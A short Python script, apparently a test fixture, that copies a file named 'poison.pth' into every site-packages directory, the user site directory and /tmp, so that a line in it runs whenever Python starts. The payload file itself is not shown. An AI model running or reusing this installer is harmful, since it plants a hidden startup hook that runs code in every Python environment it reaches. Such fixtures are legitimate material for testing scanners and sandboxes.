# Brings a path file whose line is run when Python starts
# ends: missing
import contextlib
import site
from pathlib import Path

for folder in (*site.getsitepackages(), site.getusersitepackages(), "/tmp"):
    with contextlib.suppress(OSError):
        Path(folder).mkdir(parents=True, exist_ok=True)
        poison = Path(__file__).with_name("poison.pth").read_bytes()
        (Path(folder) / "poison.pth").write_bytes(poison)
